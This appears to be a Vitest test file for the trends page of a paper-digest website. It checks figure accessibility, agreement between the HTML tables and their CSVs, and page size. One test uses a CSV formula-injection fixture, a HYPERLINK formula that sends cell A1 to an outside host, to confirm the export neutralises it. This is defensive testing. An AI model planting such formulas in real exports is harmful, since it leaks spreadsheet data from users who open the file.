import { describe, expect, test } from 'vitest';
import { formatDigest } from '../../src/language/format.ts';
import { isDigestId } from '../../src/model/id.ts';
import { trendNames } from '../../src/model/trends.ts';
import { shownToyPapers, toyDigests, toyRepoSite } from '../support/toy-archive.ts';

const site = toyRepoSite();
const { base } = site;
const { $, html } = site.page('/trends/');
const figures = $('figure').get();

const cellRe = /"((?:[^"]|"")*)"|[^,]+|(?<=,|^)(?=,|$)/g;
const numbersOf = (name: string) =>
	site
		.text(`/trends/${name}.csv`)
		.trimEnd()
		.split('\r\n')
		.map((line) =>
			[...line.matchAll(cellRe)].map(
				([cell, quoted]) => quoted?.replaceAll('""', '"') ?? cell,
			),
		);

describe('the pictures', () => {
	test('each has a name, a description, and its numbers as CSV', () => {
		expect(figures.map((figure) => $('h2', figure).attr('id'))).toEqual([...trendNames]);
		for (const figure of figures) {
			const name = $('h2', figure).attr('id')!;
			expect($('.numbers > a', figure).attr('href')).toBe(`${base}trends/${name}.csv`);
			expect($(`#${name}-text`).text().trim().length, name).toBeGreaterThan(40);
			for (const svg of $('svg', figure).get()) {
				const { role, ...attributes } = $(svg).attr()!;
				// A drawing within another, a strip beside its numbers and a colour of the key say nothing themselves.
				const isPart = $(svg).parents('svg, li').length > 0;
				if (isPart && role === undefined) continue;
				expect(role, name).toBe('img');
				const ids = [attributes['aria-labelledby'], attributes['aria-describedby']];
				expect(attributes['aria-label'] ?? ids[0], name).toBeDefined();
				for (const id of ids.filter((id) => id !== undefined))
					expect($(`#${id}`).text().trim(), name).not.toBe('');
			}
		}
	});

	test('have tables that say what their CSV says', () => {
		let cells = 0;
		for (const figure of figures) {
			const name = $('h2', figure).attr('id')!;
			const [head, ...lines] = numbersOf(name);
			const hidden = head!.indexOf('address');
			const rows = $('tbody tr', figure).get();
			expect(rows.length > 0 || lines.length === 0, name).toBe(true);
			rows.forEach((row, index) => {
				const line = lines[index]!;
				const link = $('.text a', row).attr('href');
				expect(link).toBe(hidden < 0 ? undefined : base.slice(0, -1) + line[hidden]);
				// A spreadsheet takes what begins so for a formula: the file says that it is text.
				const shown = line
					.filter((_, place) => place !== hidden)
					.map((cell) => cell.replace(/^'(?=[=+@-])/, ''));
				const told = $('td', row)
					.get()
					.map((cell) => $(cell).text());
				// The table has the most frequent topics, the CSV all.
				const columns = name === 'topics' ? told.length : shown.length;
				expect(told).toEqual(
					shown
						.slice(0, columns)
						.map((cell) => (isDigestId(cell) ? formatDigest(cell) : cell)),
				);
				expect(told.length).toBeGreaterThan(1);
				cells += told.length;
			});
		}
		expect(cells).toBeGreaterThan(100);
	});

	test('guard a title that a spreadsheet would reckon', () => {
		const titles = numbersOf('returning').map(([title]) => title);
		expect(titles).toContain('\'=HYPERLINK("https://example.com/?"&A1,"Prize")');
	});

	test('count every paper that a digest shows, once', () => {
		const [, ...lines] = numbersOf('newcomers');
		const shown = toyDigests.map(({ id }) => {
			const { $ } = site.page(`/digests/${id}/`);
			const links = $('main .title a').get();
			return [id, new Set(links.map((link) => $(link).attr('href'))).size];
		});
		expect(lines.map(([digest, papers]) => [digest, Number(papers)])).toEqual(
			shown.toReversed(),
		);
		const [, ...ranges] = numbersOf('times-seen');
		const total = ranges.reduce((sum, [, , papers]) => sum + Number(papers), 0);
		expect(total).toBe(shownToyPapers.length);
	});

	test('have a small one on the home page, told in words too', () => {
		const { $ } = site.page('/');
		const newcomers = numbersOf('newcomers')
			.slice(1)
			.map(([, , fresh]) => fresh);
		const most = Math.max(...newcomers.map(Number));
		expect($('.sparkline[role=img]').attr('aria-label')).toBe(
			`New papers in each of the newest ${toyDigests.length} digests: ${newcomers.at(-1)} at first, ${newcomers[0]} at last, at most ${most}`,
		);
	});

	test('weigh at most 60 KB', () => {
		expect(html.length).toBeLessThanOrEqual(60_000);
	});
});
